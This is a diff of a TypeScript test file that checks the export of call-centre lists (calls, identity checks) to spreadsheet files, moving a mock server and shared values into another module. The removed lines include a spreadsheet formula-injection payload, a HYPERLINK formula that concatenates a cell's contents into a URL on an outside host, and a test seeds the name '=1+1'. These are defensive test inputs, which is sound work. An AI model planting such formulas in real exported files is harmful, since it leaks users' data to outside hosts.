@@ -5,13 +5,10 @@ import { strFromU8, unzipSync } from 'fflate';
 import { readOds } from 'hucre/ods';
 import readXlsxFile from 'read-excel-file/node';
 import { describe, expect, it, onTestFinished } from 'vitest';
-import type { z } from 'zod';
 import { systemClock } from '#shared/domain/clock.ts';
 import { newId } from '#shared/domain/ids.ts';
 import { silentLogger } from '#shared/domain/logger.ts';
 import { exportLists, type ExportFormat, type ExportList, type ExportRequest } from '#shared/domain/office.ts';
-import { noAgreement, targetsOf } from '#shared/domain/quality/agreement.ts';
-import { figuresOf } from '#shared/domain/quality/figures.ts';
 import { dayOf } from '#shared/domain/quality/periods.ts';
 import { connect } from '#shared/ipc/client.ts';
 import { officeContract } from '#shared/ipc/office-list.ts';
@@ -27,32 +24,10 @@ import { orderRow } from '../../fixtures/ordering.ts';
 import { withDatabase } from '../store/support/raw-database.ts';
 import { arrive, outboxOf, seed } from '../store/support/seed.ts';
 import { answer, hangUp, ring, storeBench, type StoreBench } from '../store/support/store-bench.ts';
+import { central, checkedId, hostile, strangerId } from './lead-central.ts';
 
-const hostile = '=HYPERLINK("http://example.org/?"&A1,"Klik")';
 const headings = { startedAt: 'Wanneer', direction: 'Richting', name: 'Naam', number: 'Nummer', queue: 'Wachtrij', answered: 'Antwoord', duration: 'Duur (s)', outcome: 'Resultaat', transferredTo: 'Doorverbonden naar' };
 const words = { inbound: 'binnenkomend', outbound: 'uitgaand', answered: 'opgenomen', missed: 'gemist' };
-
-const [checkedId, strangerId] = [newId(), newId()];
-
-/** Two pages of the trail: a customer whom this device has, and one whom it has not. */
-function trail(path: string): unknown {
-  const line = (customerId: string, change: object) => ({ id: newId(), version: 1, updatedAt: '2026-03-02T10:00:00.000Z', interactionId: strangerId, customerId, queueId: null, agentId: null, at: '2026-03-02T10:00:00.000Z', kind: 'wrong', check: 'postcode', way: null, carried: null, opened: [], ...change });
-  return path.includes('cursor=') ? { items: [line(strangerId, { kind: 'gave-up', check: null, way: 'supervisor' })], next: null } : { items: [line(checkedId, {})], next: 'abc' };
-}
-
-/** Central, for a team lead. */
-const central = {
-  asked: [] as string[],
-  async ask<T extends z.ZodType>({ path }: { readonly path: string }, answer: T): Promise<z.output<T>> {
-    this.asked.push(path);
-    if (path.startsWith('/v1/identity-checks?')) return answer.parse(trail(path));
-    const figures = figuresOf([], null);
-    const one = { value: 12.34, count: 2, within: 0.5 };
-    const targets = targetsOf({ pickUpTargetSeconds: 20, durationTargetSeconds: 300, agreement: { ...noAgreement, pickUpPercent: 80 } });
-    const counted = { ...figures, conversations: 2, pickUp: one, silence: { value: 0.1234, count: 2, within: null } };
-    return answer.parse({ teams: [], queues: [{ queueId: newId(), name: hostile, targets, figures: counted, periods: [{ day: '2026-03-02', figures: counted }] }, { queueId: newId(), name: 'Stil', targets, figures, periods: [] }] });
-  },
-};
 
 interface Desk {
   readonly bench: StoreBench;
@@ -247,15 +222,13 @@ describe('a list as a file', () => {
 
   it('of the trail of identity checks has every page that central tells, with names as far as this device has them', async () => {
     const { bench, save } = await desk();
-    const [someone] = testCentre().rows.customer ?? [];
-    arrive(bench.path, 'customer', [{ ...someone!, id: checkedId, givenName: '=1+1', familyName: 'Maes' }]);
-    const { path, rows } = await save({ list: 'identityChecks', from: '2026-03-01T23:00:00.000Z', until: null, agentId: null, customerId: null, kind: null }, 'xlsx');
+    arrive(bench.path, 'customer', [{ ...testCentre().rows.customer![0]!, id: checkedId, givenName: '=1+1', familyName: 'Maes' }]);
+    const { path } = await save({ list: 'identityChecks', from: '2026-03-01T23:00:00.000Z', until: null, agentId: null, customerId: null, kind: null }, 'xlsx');
     const [sheet] = await readXlsxFile(path);
     expect(sheet?.data.slice(1).map((row) => row.slice(1))).toEqual([
       [null, '=1+1 Maes', 'check.postcode', 'answer.wrong', null, strangerId],
       [null, null, null, 'answer.gave-up', null, strangerId],
     ]);
-    expect(rows).toBe(2);
     expect(central.asked.slice(-2)).toEqual([expect.stringMatching(/identity-checks\?atFrom=2026-03-01T23%3A00%3A00.000Z$/), expect.stringContaining('cursor=abc')]);
     expect(outboxOf(bench.path).filter(({ entity }) => entity === 'dataExport')).toMatchObject([{ patch: { list: 'identityChecks', rows: 2 } }]);
   });
